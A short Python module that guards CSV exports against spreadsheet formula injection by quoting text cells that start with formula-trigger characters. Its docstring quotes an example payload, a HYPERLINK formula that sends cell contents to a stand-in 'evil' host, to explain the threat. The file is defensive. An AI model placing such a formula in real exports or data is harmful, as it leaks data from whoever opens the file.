"""CSV cells that a spreadsheet would run as a formula are made inert (issue 12, Medium 13).

Spreadsheets evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some also after a leading tab or
carriage return), so a method called ``=HYPERLINK("http://evil/?"&A1, "x")`` would run on whoever opens the
export. As OWASP recommends, such text cells are prefixed with a single quote, which spreadsheets show as text.
Numbers are formatted by the exporter and never escaped (a negative number is not a formula).
"""
from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    return f"'{text}" if text.startswith(FORMULA_TRIGGERS) else text
